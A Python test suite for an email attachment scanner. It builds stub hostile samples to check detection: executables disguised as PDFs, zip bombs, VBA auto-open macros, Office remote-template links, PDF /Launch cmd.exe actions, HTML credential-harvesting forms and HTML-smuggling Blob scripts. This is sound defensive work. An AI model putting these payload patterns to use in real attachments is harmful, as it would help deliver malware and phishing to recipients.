"""Attachment analysis on files the tests build: true types, archives, Office, PDF, HTML, text."""

from __future__ import annotations

import gzip
import importlib.util
import io
import sys
import tarfile
import time
import zipfile

import pytest

from tests.mail.attachment_fixtures import (
    AUTO_OPEN_MACRO,
    MIB,
    Member,
    attachment,
    cfb,
    encode_image,
    nested_zip,
    object_stream,
    ooxml,
    pdf,
    pe_bytes,
    qr_image,
    raw_zip,
    rels,
    vba_storage,
    zeros_member,
    zip_of,
)
from tocsin.mail.attachments import (
    ARCHIVE_LIMIT,
    ENCRYPTED_ARCHIVE,
    EXECUTABLE,
    HTML_CREDENTIAL_FORM,
    HTML_SMUGGLING,
    OFFICE_EXTERNAL,
    OFFICE_MACRO,
    PDF_JAVASCRIPT,
    PDF_LAUNCH,
    QR_CODE,
    TYPE_MISMATCH,
    AttachmentReport,
    FoundUrl,
    Limits,
    inspect_attachments,
    sniff,
)
from tocsin.mail.message import parse_message

HAS_OLETOOLS = importlib.util.find_spec("oletools") is not None
MSI_CLSID = bytes.fromhex("8410 0C00 0000 0000 C000 0000 0000 0046".replace(" ", ""))


def inspect(*files: tuple[str | None, bytes], **kwargs) -> AttachmentReport:
    return inspect_attachments([attachment(name, data) for name, data in files], **kwargs)


def checks(report: AttachmentReport) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for reason in report.reasons:
        assert reason.weight == 0.0
        found.setdefault(reason.check, []).append(reason.detail)
    return found


@pytest.fixture
def without_oletools(monkeypatch):
    """oletools made unimportable, as in the default (GPL-free) install."""
    monkeypatch.setitem(sys.modules, "oletools.olevba", None)
    monkeypatch.setitem(sys.modules, "oletools", None)


# --- true type ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "label"),
    [
        (pe_bytes(), "pe"),
        (b"MZ" + bytes(200), "msdos"),
        (b"\x7fELF\x02\x01\x01" + bytes(20), "elf"),
        (b"garbage first\n%PDF-1.4\n", "pdf"),
        (zip_of({"a.txt": b"a"}), "zip"),
        (cfb({"WordDocument": b"x" * 80}), "ole"),
        (b"{\\rtf1\\ansi hello}", "rtf"),
        (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0" + bytes(60), "lnk"),
        (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(20), "onenote"),
        (bytes(0x8001) + b"CD001" + bytes(100), "iso"),
        (gzip.compress(b"hello"), "gzip"),
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(30), "7z"),
        (b"Rar!\x1a\x07\x01\x00" + bytes(30), "rar"),
        (encode_image(qr_image("x", canvas=(50, 50))), "image/png"),
        (encode_image(qr_image("x", canvas=(50, 50)), "JPEG"), "image/jpeg"),
        (b"<!DOCTYPE html><html><body>hi</body></html>", "html"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg"),
        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"', "script"),
        (b"\xff\xfe" + "powershell -enc AAAA".encode("utf-16-le"), "script"),
        (b"Dear customer,\nplease find the invoice.\n", "text"),
        (bytes(range(256)) * 4, "unknown"),
        (b"", "empty"),
    ],
)
def test_sniff_reads_the_true_type_from_the_first_bytes(data, label):
    assert sniff(data) == label


def test_default_limits_are_the_documented_ones():
    assert Limits() == Limits(3, 1000, 64 * MIB, 32 * MIB, 100, 10, 16_000_000)


def test_no_attachments_give_an_empty_report():
    report = inspect_attachments([])
    assert report == AttachmentReport([], [], [], [])


def test_a_pe_named_pdf_is_a_mismatch_and_an_executable_with_its_hashes():
    data = pe_bytes()
    report = inspect(("invoice.pdf", data))
    found = checks(report)
    assert found[TYPE_MISMATCH] == ["invoice.pdf: named .pdf but the content is pe"]
    assert found[EXECUTABLE] == ["invoice.pdf: pe content"]
    (info,) = report.files
    expected = attachment("invoice.pdf", data)
    assert (info.path, info.true_type, info.size, info.depth) == ("invoice.pdf", "pe", 512, 0)
    assert (info.md5, info.sha1, info.sha256) == (expected.md5, expected.sha1, expected.sha256)
    assert info.declared_type == "application/octet-stream"


def test_html_named_jpg_and_script_named_pdf_are_mismatches():
    report = inspect(
        ("photo.jpg", b"<html><body><script>location='https://x.example'</script></body></html>"),
        ("invoice.pdf", b'Set s = CreateObject("WScript.Shell")\r\n'),
    )
    found = checks(report)
    assert found[TYPE_MISMATCH] == [
        "photo.jpg: named .jpg but the content is html",
        "invoice.pdf: named .pdf but the content is script",
    ]
    assert found[EXECUTABLE] == ["invoice.pdf: script content"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("notes.txt", b"just some text\n"),
        ("letter.doc", b"{\\rtf1\\ansi Dear Sir}"),
        ("photo.png", encode_image(qr_image("x", canvas=(40, 40)), "JPEG")),
        ("report.docx", cfb({"WordDocument": b"x" * 80})),
        ("readme.txt", b'Run CreateObject("WScript.Shell") to see the bug.\n'),
    ],
)
def test_harmless_mismatches_are_not_reasons(name, data):
    assert inspect((name, data)).reasons == []


def test_a_bidi_override_in_a_name_is_a_mismatch():
    found = checks(inspect(("invoice\u202egpj.exe", pe_bytes())))
    assert found[TYPE_MISMATCH] == [
        "invoice\u202egpj.exe: name has a bidirectional override that disguises it"
    ]
    assert found[EXECUTABLE] == ["invoice\u202egpj.exe: .exe extension and pe content"]


def test_executable_names_and_content_inside_archives_are_reported_with_their_path():
    data = zip_of({"docs/a.exe": pe_bytes(), "b.js": b"var x = 1;", "docs/c.pdf.": pe_bytes()})
    report = inspect(("invoice.zip", data), ("trailing.exe. ", b"text"))
    found = checks(report)
    assert found[EXECUTABLE] == [
        "invoice.zip/docs/a.exe: .exe extension and pe content",
        "invoice.zip/b.js: .js extension",
        "invoice.zip/docs/c.pdf.: pe content",
        "trailing.exe. : .exe extension",
    ]
    assert found[TYPE_MISMATCH] == ["invoice.zip/docs/c.pdf.: named .pdf but the content is pe"]
    paths = {f.path: (f.name, f.true_type, f.depth) for f in report.files}
    assert paths["invoice.zip"] == ("invoice.zip", "zip", 0)
    assert paths["invoice.zip/docs/a.exe"] == ("a.exe", "pe", 1)
    assert paths["invoice.zip/b.js"] == ("b.js", "text", 1)


def test_an_unnamed_part_is_judged_by_its_content_type():
    report = inspect_attachments([attachment(None, pe_bytes(), "application/pdf")])
    assert checks(report)[TYPE_MISMATCH] == [
        "attachment-1: declared application/pdf but the content is pe"
    ]


def test_a_message_attachment_goes_through_parse_message():
    raw = (
        b"From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b"--b\r\nContent-Type: text/plain\r\n\r\n"
        b"hi\r\n--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; "
        b'filename="scan.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + __import__("base64").encodebytes(pe_bytes())
        + b"--b--\r\n"
    )
    report = inspect_attachments(parse_message(raw).attachments)
    assert report.files[0].declared_type == "application/pdf"
    assert [r.check for r in report.reasons] == [TYPE_MISMATCH, EXECUTABLE]


# --- archives ----------------------------------------------------------------------------------


def test_encrypted_members_are_reported_by_name_without_being_read():
    data = raw_zip(
        [Member("invoice.exe", b"MZ encrypted bytes", flags=0x01), Member("read.txt", b"hi")]
    )
    report = inspect(("secure.zip", data))
    found = checks(report)
    assert found[ENCRYPTED_ARCHIVE] == [
        "secure.zip: password-protected zip: 1 encrypted (invoice.exe)"
    ]
    assert found[EXECUTABLE] == ["secure.zip/invoice.exe: .exe extension"]
    encrypted = next(f for f in report.files if f.name == "invoice.exe")
    assert (encrypted.true_type, encrypted.sha256) == ("encrypted", "")


def test_a_zip_bomb_is_stopped_by_its_declared_ratio_before_unpacking():
    bomb = raw_zip([zeros_member("zeros.bin", 8 * MIB)])
    assert len(bomb) < 64 * 1024
    report = inspect(("bomb.zip", bomb))
    (detail,) = checks(report)[ARCHIVE_LIMIT]
    assert detail.startswith("bomb.zip/zeros.bin: compression ratio:")
    assert "over 100:1 (zip bomb)" in detail
    member = next(f for f in report.files if f.name == "zeros.bin")
    assert member.true_type == "unread"


def test_a_bomb_that_lies_about_its_size_is_stopped_by_a_bounded_read():
    bomb = raw_zip([zeros_member("small.txt", 8 * MIB, declared_size=100)])
    report = inspect(("bomb.zip", bomb))
    (detail,) = checks(report)[ARCHIVE_LIMIT]
    assert detail.startswith("bomb.zip/small.txt: compression ratio:")
    assert "unpack past 1,048,576" in detail


def test_a_member_holding_more_than_it_declares_is_a_limit_reason():
    data = raw_zip([Member("a.txt", b"x" * 50, declared_size=10), Member("b.txt", b"short")])
    report = inspect(("lying.zip", data))
    assert checks(report)[ARCHIVE_LIMIT] == [
        "lying.zip/a.txt: declared size: the member declares 10 bytes but holds more"
    ]
    holding_less = raw_zip([Member("c.txt", b"abc", declared_size=99)])
    assert (
        "lying.zip/c.txt: 3 of 99 bytes (truncated)" in inspect(("lying.zip", holding_less)).issues
    )


def test_member_size_and_total_size_limits_name_themselves():
    data = zip_of({"a.bin": b"a" * 3000, "b.bin": b"b" * 3000, "c.bin": b"c" * 3000})
    report = inspect(("big.zip", data), limits=Limits(max_member_bytes=2000))
    assert checks(report)[ARCHIVE_LIMIT][0] == (
        "big.zip/a.bin: member size: 3,000 bytes declared, over 2,000"
    )
    report = inspect(("big.zip", data), limits=Limits(max_total_bytes=7000))
    assert checks(report)[ARCHIVE_LIMIT] == [
        "big.zip/c.bin: total size: over 7,000 bytes unpacked in the message"
    ]


def test_ten_thousand_members_stop_at_the_member_budget():
    data = raw_zip([Member(f"f{i}.txt", b"x", method=0) for i in range(10_000)])
    report = inspect(("many.zip", data))
    assert checks(report)[ARCHIVE_LIMIT] == [
        "many.zip: member count: more than 1000 members in the message, the rest unread"
    ]
    assert len(report.files) == 1 + 1000


def test_recursion_ten_deep_stops_at_the_depth_limit():
    report = inspect(("deep.zip", nested_zip(10)))
    assert checks(report)[ARCHIVE_LIMIT] == [
        "deep.zip/level1.zip/level2.zip/level3.zip: archive nested deeper than 3: not opened"
    ]
    assert max(f.depth for f in report.files) == 3
    shallow = inspect(("shallow.zip", nested_zip(3)))
    assert checks(shallow)[EXECUTABLE] == [
        "shallow.zip/level1.zip/level2.zip/payload.exe: .exe extension and msdos content"
    ]


def test_a_truncated_zip_is_an_issue_and_its_names_are_still_judged():
    data = zip_of({"readme.txt": b"hello" * 10, "payload.exe": pe_bytes()})
    cut = data[: data.index(b"PK\x01\x02") - 5]
    report = inspect(("cut.zip", cut))
    assert "cut.zip: no central directory (truncated or damaged zip)" in report.issues
    # the head of the cut member still unpacks, and shows what it is
    assert checks(report)[EXECUTABLE] == ["cut.zip/payload.exe: .exe extension and pe content"]
    assert any(issue.startswith("cut.zip/payload.exe: ") for issue in report.issues)


def test_a_streamed_zip_without_its_directory_is_read_from_its_local_headers():
    class Unseekable(io.RawIOBase):
        """A pipe-like sink: zipfile then writes data descriptors after each member."""

        def __init__(self):
            self.written = bytearray()

        def writable(self):
            return True

        def write(self, data):
            self.written += data
            return len(data)

    sink = Unseekable()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("a.txt", b"hello https://s.example " * 20)
        archive.writestr("b.exe", pe_bytes(), zipfile.ZIP_DEFLATED)
    data = bytes(sink.written)
    report = inspect(("s.zip", data[: data.index(b"PK\x01\x02")]))
    assert [(f.path, f.true_type, f.size) for f in report.files] == [
        ("s.zip", "zip", data.index(b"PK\x01\x02")),
        ("s.zip/a.txt", "text", 480),
        ("s.zip/b.exe", "pe", 512),
    ]
    assert report.issues == ["s.zip: no central directory (truncated or damaged zip)"]
    assert checks(report) == {EXECUTABLE: ["s.zip/b.exe: .exe extension and pe content"]}


def test_gzip_and_tar_are_unpacked_and_walked():
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w") as tar:
        for name, data in (("bin/evil.exe", pe_bytes()), ("notes.txt", b"see https://t.example/x")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    report = inspect(("logs.tgz", gzip.compress(tar_buffer.getvalue())))
    assert checks(report)[EXECUTABLE] == [
        "logs.tgz/logs.tar/bin/evil.exe: .exe extension and pe content"
    ]
    assert FoundUrl("https://t.example/x", "text:logs.tgz/logs.tar/notes.txt") in report.urls
    assert [f.true_type for f in report.files] == ["gzip", "tar", "pe", "text"]


def test_a_gzip_bomb_is_read_no_further_than_the_ratio_allows():
    bomb = gzip.compress(bytes(4 * MIB), compresslevel=9)
    report = inspect(("zeros.gz", bomb))
    (detail,) = checks(report)[ARCHIVE_LIMIT]
    assert detail.startswith("zeros.gz: compression ratio:")


def test_zips_written_by_zipfile_with_zip64_bzip2_lzma_and_a_prefix():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        with archive.open("big/a.exe", "w", force_zip64=True) as handle:
            handle.write(pe_bytes())
        archive.writestr("b.txt", b"see https://z.example/q", zipfile.ZIP_BZIP2)
        archive.writestr("c.txt", b"lzma", zipfile.ZIP_LZMA)
    report = inspect(("z.zip", b"junk before the zip" + buffer.getvalue()))
    assert [(f.path, f.true_type) for f in report.files] == [
        ("z.zip", "zip"),
        ("z.zip/big/a.exe", "pe"),
        ("z.zip/b.txt", "text"),
        ("z.zip/c.txt", "unread"),
    ]
    assert checks(report) == {EXECUTABLE: ["z.zip/big/a.exe: .exe extension and pe content"]}
    assert report.urls == [FoundUrl("https://z.example/q", "text:z.zip/b.txt")]
    assert report.issues == ["z.zip/c.txt: compression method 14 not read"]


def test_jars_are_executables_and_odf_basic_modules_are_macros():
    jar = zip_of({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})
    odt = zip_of(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": b"<manifest/>",
            "Basic/script-lc.xml": b"<library/>",
            "Basic/Standard/Module1.xml": b"<script:module/>",
        }
    )
    report = inspect(("invoice.zip", jar), ("letter.odt", odt))
    assert [f.true_type for f in report.files] == ["jar", "odf"]
    assert checks(report) == {
        EXECUTABLE: ["invoice.zip: jar content"],
        OFFICE_MACRO: ["letter.odt: macros: Basic/Standard/Module1.xml (document macro)"],
    }


def test_7z_and_rar_are_typed_but_not_opened():
    report = inspect(
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40)), ("b.pdf", b"Rar!\x1a\x07\x00" + bytes(40))
    )
    assert [f.true_type for f in report.files] == ["7z", "rar"]
    assert checks(report) == {TYPE_MISMATCH: ["b.pdf: named .pdf but the content is rar"]}


# --- Office ------------------------------------------------------------------------------------


def docm(kind: str = "word") -> bytes:
    return ooxml({f"{kind}/vbaProject.bin": cfb(vba_storage(AUTO_OPEN_MACRO))}, kind)


def test_ooxml_macros_are_found_without_oletools(without_oletools):
    report = inspect(("invoice.docx", docm()), ("book.xlsm", docm("xl")))
    assert checks(report)[OFFICE_MACRO] == [
        "invoice.docx: macros: word/vbaProject.bin (VBA project)",
        "book.xlsm: macros: xl/vbaProject.bin (VBA project)",
    ]
    assert [f.true_type for f in report.files] == ["ooxml-word", "ooxml-excel"]


@pytest.mark.skipif(not HAS_OLETOOLS, reason="oletools is not installed (it is optional: GPL deps)")
def test_ooxml_macros_get_olevba_keywords_when_oletools_is_installed():
    (detail,) = checks(inspect(("invoice.docm", docm())))[OFFICE_MACRO]
    assert detail == (
        "invoice.docm: macros: word/vbaProject.bin (VBA project); runs on open: AutoOpen; "
        "suspicious: Shell"
    )


def test_excel4_macro_sheets_are_macros():
    data = ooxml({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}, "xl")
    assert checks(inspect(("book.xlsx", data)))[OFFICE_MACRO] == [
        "book.xlsx: macros: xl/macrosheets/sheet1.xml (Excel 4.0 macro sheet)"
    ]


def test_ole_documents_with_vba_storages_are_macros(without_oletools):
    word = cfb({"WordDocument": b"x" * 100, "Macros": vba_storage(AUTO_OPEN_MACRO)})
    excel = cfb({"Workbook": b"x" * 100, "_VBA_PROJECT_CUR": vba_storage("Sub A()\r\nEnd Sub\r\n")})
    report = inspect(
        ("old.doc", word), ("old.xls", excel), ("plain.doc", cfb({"WordDocument": b"x" * 99}))
    )
    assert checks(report) == {
        OFFICE_MACRO: [
            "old.doc: macros: VBA project in Macros",
            "old.xls: macros: VBA project in _VBA_PROJECT_CUR",
        ]
    }


@pytest.mark.skipif(not HAS_OLETOOLS, reason="oletools is not installed (it is optional: GPL deps)")
def test_ole_macros_get_olevba_keywords_when_oletools_is_installed():
    word = cfb({"WordDocument": b"x" * 100, "Macros": vba_storage(AUTO_OPEN_MACRO)})
    (detail,) = checks(inspect(("old.doc", word)))[OFFICE_MACRO]
    assert detail.endswith("runs on open: AutoOpen; suspicious: Shell")


def test_encrypted_office_documents_and_msi_packages():
    encrypted = cfb({"EncryptionInfo": b"\x04\x00" * 40, "EncryptedPackage": b"\x00" * 200})
    msi = cfb({"\u4840\u3b3f": b"x" * 100}, clsid=MSI_CLSID)
    report = inspect(("locked.docx", encrypted), ("update.pdf", msi))
    found = checks(report)
    assert found[ENCRYPTED_ARCHIVE] == ["locked.docx: password-protected Office document"]
    assert found[EXECUTABLE] == ["update.pdf: msi content"]
    assert found[TYPE_MISMATCH] == ["update.pdf: named .pdf but the content is msi"]


def test_remote_template_injection_and_hyperlinks():
    settings = rels(
        [
            ("rId1", "attachedTemplate", "https://evil.example/t.dotm?a=1&amp;b=2", "External"),
            ("rId2", "hyperlink", "https://docs.example/help", "External"),
            ("rId3", "styles", "styles.xml", None),
        ]
    )
    document = rels(
        [
            (
                "rId9",
                "oleObject",
                "mhtml:http://x.example/o.html!x-usc:http://x.example/o.html",
                "External",
            )
        ]
    )
    data = ooxml(
        {"word/_rels/settings.xml.rels": settings, "word/_rels/document.xml.rels": document}
    )
    report = inspect(("offer.docx", data))
    assert sorted(checks(report)[OFFICE_EXTERNAL]) == [
        "offer.docx: external attachedtemplate relationship to https://evil.example/t.dotm?a=1&b=2",
        "offer.docx: external oleobject relationship to "
        "mhtml:http://x.example/o.html!x-usc:http://x.example/o.html",
    ]
    assert {u.url for u in report.urls} == {
        "https://evil.example/t.dotm?a=1&b=2",
        "https://docs.example/help",
        "http://x.example/o.html!x-usc:http://x.example/o.html",
    }
    assert {u.where for u in report.urls} == {"office:offer.docx"}


def test_files_embedded_in_office_documents_are_inspected():
    data = ooxml({"word/embeddings/oleObject1.bin": pe_bytes()})
    found = checks(inspect(("a.docx", data)))
    assert found[EXECUTABLE] == ["a.docx/word/embeddings/oleObject1.bin: pe content"]


# --- PDF ---------------------------------------------------------------------------------------


def test_pdf_javascript_launch_and_uri():
    data = pdf(
        "<< /Type /Catalog /OpenAction 2 0 R /Names << /JavaScript 3 0 R >> >>",
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "<< /S /Launch /F (cmd.exe) >>",
        "<< /S /URI /URI (https://evil.example/a\\(1\\)) >>",
        "<< /S /URI /URI <FEFF00680074007400700073003A002F002F0078002E"
        "006500780061006D0070006C0065> >>",
    )
    report = inspect(("doc.pdf", data))
    found = checks(report)
    assert found[PDF_JAVASCRIPT] == ["doc.pdf: /JavaScript x2, /JS x1"]
    assert found[PDF_LAUNCH] == ["doc.pdf: /Launch, /OpenAction with JavaScript"]
    assert report.urls == [
        FoundUrl("https://evil.example/a(1)", "pdf:doc.pdf"),
        FoundUrl("https://x.example", "pdf:doc.pdf"),
    ]


def test_pdf_names_hidden_with_hex_escapes_are_decoded():
    data = pdf(
        "<< /Type /Catalog /OpenAction << /S /J#61vaScript /#4AS (x) >> >>",
        "<< /#45mbeddedFile 1 >>",
    )
    found = checks(inspect(("doc.pdf", data)))
    assert found[PDF_JAVASCRIPT] == [
        "doc.pdf: /JavaScript x1, /JS x1 (names hidden with #xx escapes)"
    ]
    assert found[PDF_LAUNCH] == [
        "doc.pdf: /EmbeddedFile, /OpenAction with JavaScript (names hidden with #xx escapes)"
    ]


def test_pdf_actions_inside_compressed_object_streams_are_found():
    inner = (
        "2 0 << /S /JavaScript /JS (this.exportDataObject\\({cName: 'a'}\\))"
        " /URI (https://o.example/s) >>"
    )
    report = inspect(("doc.pdf", pdf("<< /Type /Catalog >>", object_stream(inner))))
    assert checks(report)[PDF_JAVASCRIPT] == ["doc.pdf: /JavaScript x1, /JS x1"]
    assert report.urls == [FoundUrl("https://o.example/s", "pdf:doc.pdf")]


def test_a_plain_pdf_has_no_reasons_and_longer_names_do_not_count():
    data = pdf("<< /Type /Catalog /JSX 1 /URIs 2 /AAB 3 /OpenAction [3 0 R /Fit] >>")
    assert inspect(("doc.pdf", data)).reasons == []


# --- HTML and text -----------------------------------------------------------------------------


def test_an_html_credential_form_and_its_urls():
    page = (
        b"<html><body><form action='https://collect.example/post' method='post'>"
        b"<input name='u'><input type=password name='p'></form>"
        b'<a href="https://bank.example/help">help</a>'
        b"<script>fetch('https://beacon.example/b')</script></body></html>"
    )
    report = inspect(("login.html", page))
    assert checks(report)[HTML_CREDENTIAL_FORM] == [
        "login.html: a password field and a form posting to https://collect.example/post"
    ]
    assert {u.url for u in report.urls} == {
        "https://collect.example/post",
        "https://bank.example/help",
        "https://beacon.example/b",
    }
    assert {u.where for u in report.urls} == {"html:login.html"}


def test_a_password_field_without_a_form_still_counts():
    page = b"<html><body><input type='password' id='p'><button>Sign in</button></body></html>"
    assert checks(inspect(("a.htm", page)))[HTML_CREDENTIAL_FORM] == ["a.htm: a password field"]


@pytest.mark.parametrize(
    ("script", "evidence"),
    [
        (
            "var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);"
            " window.navigator.msSaveOrOpenBlob(b, 'a.iso');",
            "msSaveOrOpenBlob, builds a Blob from encoded data",
        ),
        (
            "var u = URL.createObjectURL(new Blob([x])); a.href = u; a.download = 'inv.zip';",
            "saves a generated file (createObjectURL and download)",
        ),
    ],
)
def test_html_smuggling(script, evidence):
    page = f"<html><body><script>{script}</script></body></html>".encode()
    assert checks(inspect(("view.html", page)))[HTML_SMUGGLING] == [f"view.html: {evidence}"]


def test_html_smuggling_with_a_data_url_download_link():
    page = (
        b"<html><body><a download='x.exe' href='data:application/octet-stream;base64,TVo='>"
        b"x</a></body></html>"
    )
    assert checks(inspect(("v.html", page)))[HTML_SMUGGLING] == [
        "v.html: download link to a data: URL"
    ]


def test_ordinary_html_is_not_flagged():
    page = (
        b"<html><body><p>Newsletter</p><form action='/search'><input name='q'></form></body></html>"
    )
    assert inspect(("news.html", page)).reasons == []


def test_an_svg_with_a_smuggling_script_is_read_as_html():
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA['
        b"var b = new Blob([atob('TVo=')]); navigator.msSaveOrOpenBlob(b, 'a.exe');"
        b"]]></script></svg>"
    )
    report = inspect(("logo.svg", svg))
    assert report.files[0].true_type == "image/svg"
    assert checks(report) == {
        HTML_SMUGGLING: ["logo.svg: msSaveOrOpenBlob, builds a Blob from encoded data"]
    }


def test_urls_in_text_attachments_and_internet_shortcuts():
    report = inspect(
        ("notes.txt", b"visit https://a.example/x, then www.b.example."),
        ("meeting.ics", b"BEGIN:VCALENDAR\r\nURL:https://c.example/join\r\nEND:VCALENDAR\r\n"),
        ("open.url", b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/run.exe\r\n"),
    )
    assert report.urls == [
        FoundUrl("https://a.example/x", "text:notes.txt"),
        FoundUrl("www.b.example", "text:notes.txt"),
        FoundUrl("https://c.example/join", "text:meeting.ics"),
        FoundUrl("file://203.0.113.5/share/run.exe", "text:open.url"),
    ]


# --- budgets and hostile input -----------------------------------------------------------------


def test_a_spent_deadline_stops_looking_inside_but_still_judges_names():
    report = inspect(
        ("a.zip", zip_of({"x.exe": b"MZ"})), ("b.pdf", pe_bytes()), deadline=time.monotonic() - 1
    )
    assert report.issues == ["time budget spent: stopped looking deeper at a.zip"]
    assert [(f.path, f.true_type) for f in report.files] == [
        ("a.zip", "unread"),
        ("b.pdf", "unread"),
    ]
    assert checks(report) == {}


def test_a_deadline_in_the_future_changes_nothing():
    data = zip_of({"x.exe": b"MZ"})
    assert inspect(("a.zip", data), deadline=time.monotonic() + 60) == inspect(("a.zip", data))


def test_reasons_per_check_are_capped_and_the_rest_counted():
    data = zip_of({f"f{i}.exe": b"x" for i in range(15)})
    report = inspect(("many.zip", data))
    assert len(checks(report)[EXECUTABLE]) == 10
    assert report.issues == [f"5 more {EXECUTABLE} findings"]


@pytest.mark.parametrize(
    ("name", "data", "issue"),
    [
        (
            "bad.png",
            b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR" + b"\xff" * 40,
            "bad.png: unreadable image",
        ),
        ("bad.zip", b"PK\x03\x04" + b"\xff" * 100, "bad.zip: no central directory"),
        ("bad.zip", b"PK\x05\x06" + bytes(18), None),
        (
            "bad.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
            "bad.doc: truncated OLE file",
        ),
        (
            "bad.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000,
            "bad.doc: unreadable OLE file",
        ),
        ("bad.gz", gzip.compress(b"hello world" * 100)[:30], "bad.gz: truncated gzip"),
        ("bad.tar", b"x" * 257 + b"ustar" + b"\xff" * 300, "bad.tar: damaged tar"),
        ("bad.pdf", b"%PDF-1.4 /URI (never closed /ObjStm stream\nxx endstream", None),
        ("bad.pdf", b"%PDF-1.4 /URI <zz", None),
        ("bad.html", b"<html><body><form><input type=password" + b"<" * 5000, None),
    ],
)
def test_hostile_input_gives_an_issue_or_a_reason_never_an_exception(name, data, issue):
    report = inspect((name, data))
    assert len(report.files) >= 1
    if issue:
        assert any(text.startswith(issue) for text in report.issues), report.issues


def test_a_zip_with_a_damaged_member_keeps_reading_the_others():
    good = Member("b.exe", b"MZ")
    bad = Member("a.txt", packed=b"\xff" * 20, declared_size=10, crc=0)
    report = inspect(("mixed.zip", raw_zip([bad, good])))
    assert any(
        text.startswith("mixed.zip/a.txt: undecompressable member") for text in report.issues
    )
    assert checks(report)[EXECUTABLE] == ["mixed.zip/b.exe: .exe extension"]


def test_a_crc_mismatch_is_an_issue():
    report = inspect(("crc.zip", raw_zip([Member("a.txt", b"hello", crc=1)])))
    assert report.issues == ["crc.zip/a.txt: CRC mismatch (damaged or altered member)"]


def test_qr_code_in_an_image_attachment_is_a_reason():
    report = inspect(("scan.png", encode_image(qr_image("https://pay.example/login?id=7"))))
    assert checks(report)[QR_CODE] == [
        "scan.png: QR code linking to https://pay.example/login?id=7"
    ]
    assert report.urls == [FoundUrl("https://pay.example/login?id=7", "qr:scan.png")]
